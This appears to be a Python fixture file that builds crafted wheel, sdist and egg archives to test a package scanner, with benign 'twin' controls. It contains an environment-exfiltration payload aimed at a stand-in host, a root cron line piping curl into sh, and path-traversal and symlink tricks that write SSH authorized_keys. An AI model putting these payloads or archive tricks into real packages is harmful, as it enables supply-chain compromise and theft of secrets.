"""Containers made by hand: two readings, escapes, things that cannot be read; and untidy honest ones."""

from __future__ import annotations

import io
import struct
import tarfile
import warnings
import zipfile

from scenario_kit import container

EVIL = b"import os, requests\nrequests.post('https://collect.invalid/v1', json=dict(os.environ))\n"
CLEAN = b"__version__ = '1.2.0'\n"
WHEEL = "acme-1.2.0-py3-none-any.whl"
SDIST = "acme-1.2.0.tar.gz"
META = b"Metadata-Version: 2.1\nName: acme\nVersion: 1.2.0\n"
SETUP = b"from setuptools import setup\nsetup(name='acme', version='1.2.0', packages=['acme'])\n"


def zipped(*members: tuple[str, bytes], comment: bytes = b"", prefix: bytes = b"") -> bytes:
    """Return a wheel's zip with these members in order, duplicates included."""
    packed = io.BytesIO()
    packed.write(prefix)
    with warnings.catch_warnings(), zipfile.ZipFile(packed, "a" if prefix else "w", zipfile.ZIP_DEFLATED) as archive:
        warnings.simplefilter("ignore")
        for name, data in (*members, ("acme-1.2.0.dist-info/METADATA", META)):
            archive.writestr(name, data)
        archive.comment = comment
    return packed.getvalue()


def tarred(*members: tuple[str, bytes | str], kind: str = "gz") -> bytes:
    """Return a tar with files (bytes) and symbolic links (text) below `acme-1.2.0/` unless the name escapes."""
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode=f"w:{kind}") as archive:
        for name, data in (("PKG-INFO", META), *members):
            member = tarfile.TarInfo(name if name.startswith((".", "/")) else f"acme-1.2.0/{name}")
            if isinstance(data, str):
                member.type, member.linkname = tarfile.SYMTYPE, data
                archive.addfile(member)
            else:
                member.size = len(data)
                archive.addfile(member, io.BytesIO(data))
    return packed.getvalue()


def hidden_from_directory() -> bytes:
    """Return a zip whose local headers show an evil member that the central directory does not list."""
    name = b"acme/__init__.py"
    local = struct.pack(
        "<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 0, 0, 33, zipfile.crc32(EVIL), len(EVIL), len(EVIL), len(name), 0
    )
    hidden = local + name + EVIL
    return hidden + zipped(("acme/__init__.py", CLEAN), prefix=b"")


def encrypted() -> bytes:
    """Return a zip whose member says that it is encrypted."""
    data = bytearray(zipped(("acme/__init__.py", CLEAN), ("acme/core.py", EVIL)))
    at = data.find(b"PK\3\4", data.find(b"acme/__init__.py") + 1)
    data[at + 6] |= 1
    entry = data.find(b"PK\1\2", data.find(b"PK\1\2") + 1)
    data[entry + 8] |= 1
    return bytes(data)


SCENARIOS = [
    container(
        "same-name-twice-evil-last", "look", WHEEL, zipped(("acme/__init__.py", CLEAN), ("acme/__init__.py", EVIL))
    ),
    container(
        "same-name-twice-evil-first", "look", WHEEL, zipped(("acme/__init__.py", EVIL), ("acme/__init__.py", CLEAN))
    ),
    container("member-that-the-directory-hides", "look", WHEEL, hidden_from_directory()),
    container("encrypted-module", "look", WHEEL, encrypted()),
    container("cut-off-wheel", "look", WHEEL, zipped(("acme/__init__.py", EVIL))[:-60]),
    container(
        "escape-into-ssh-folder",
        "look",
        WHEEL,
        zipped(("../../../../.ssh/authorized_keys", b"ssh-ed25519 AAAA x\n"), ("acme/__init__.py", CLEAN)),
    ),
    container("case-collision", "look", WHEEL, zipped(("acme/__init__.py", CLEAN), ("Acme/__init__.py", EVIL))),
    container("tar-same-name-twice", "look", SDIST, tarred(("setup.py", SETUP), ("setup.py", EVIL + SETUP))),
    container(
        "tar-link-then-write-through-it",
        "look",
        SDIST,
        tarred(
            ("setup.py", SETUP), ("acme/x", "../../../../../.ssh"), ("acme/x/authorized_keys", b"ssh-ed25519 AAAA x\n")
        ),
    ),
    container(
        "tar-absolute-name",
        "look",
        SDIST,
        tarred(("setup.py", SETUP), ("/etc/cron.d/acme", b"* * * * * root curl http://203.0.113.5/x | sh\n")),
    ),
    container(
        "tar-setup-is-a-link-to-hidden-data",
        "look",
        SDIST,
        tarred(("docs/theme.dat", EVIL + SETUP), ("setup.py", "docs/theme.dat")),
    ),
    container("xz-sdist-with-evil-setup", "look", "acme-1.2.0.tar.xz", tarred(("setup.py", EVIL + SETUP), kind="xz")),
    container("zip-sdist-with-evil-setup", "look", "acme-1.2.0.zip", zipped(("acme-1.2.0/setup.py", EVIL + SETUP))),
    container(
        "egg-with-evil-init",
        "look",
        "acme-1.2.0-py3.11.egg",
        zipped(("acme/__init__.py", EVIL), ("EGG-INFO/PKG-INFO", META)),
    ),
    container("not-an-archive-at-all", "look", WHEEL, b"MZ" + bytes(300)),
    container(
        "twin-comment-and-folders",
        "quiet",
        WHEEL,
        zipped(("acme/", b""), ("acme/__init__.py", CLEAN), comment=b"built by acme"),
    ),
    container(
        "twin-identical-duplicates", "quiet", WHEEL, zipped(("acme/__init__.py", CLEAN), ("acme/__init__.py", CLEAN))
    ),
    container(
        "twin-tar-with-links-inside",
        "quiet",
        SDIST,
        tarred(
            ("setup.py", SETUP),
            ("acme/__init__.py", CLEAN),
            ("acme/current.py", "__init__.py"),
            ("README", "docs/index.rst"),
            ("docs/index.rst", b"Acme\n"),
        ),
    ),
    container(
        "twin-tar-with-long-and-unicode-names",
        "quiet",
        SDIST,
        tarred(
            ("setup.py", SETUP),
            ("acme/__init__.py", CLEAN),
            ("tests/data/" + "long-" * 40 + "name.txt", b"x"),
            ("tests/data/\u00fcml\u00e4ut.txt", b"x"),
        ),
    ),
    container(
        "twin-empty-files-and-stored-members",
        "quiet",
        WHEEL,
        zipped(("acme/__init__.py", b""), ("acme/py.typed", b""), ("acme/core.py", CLEAN)),
    ),
]
